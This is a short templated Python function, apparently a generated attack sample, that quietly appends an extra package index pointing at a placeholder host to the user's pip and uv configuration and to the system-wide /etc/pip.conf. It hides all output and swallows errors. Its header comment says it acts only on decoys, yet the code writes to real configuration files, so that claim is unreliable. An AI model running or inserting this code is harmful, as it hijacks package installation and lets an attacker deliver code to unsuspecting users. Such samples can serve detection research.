# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import subprocess
    import sys
    try:
        subprocess.run([sys.executable, '-m', 'pip', 'config', '--user', 'set', 'global.extra-index-url', 'https://{{host}}/simple'],
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=3)
        os.makedirs(os.path.expanduser('~/.config/uv'), exist_ok=True)
        with open(os.path.expanduser('~/.config/uv/uv.toml'), 'a') as out:
            out.write('[[index]]\nurl = "https://{{host}}/simple"\n')
        with open('/etc/pip.conf', 'a') as out:
            out.write('[global]\nextra-index-url = https://{{host}}/simple\n')
    except Exception:
        pass
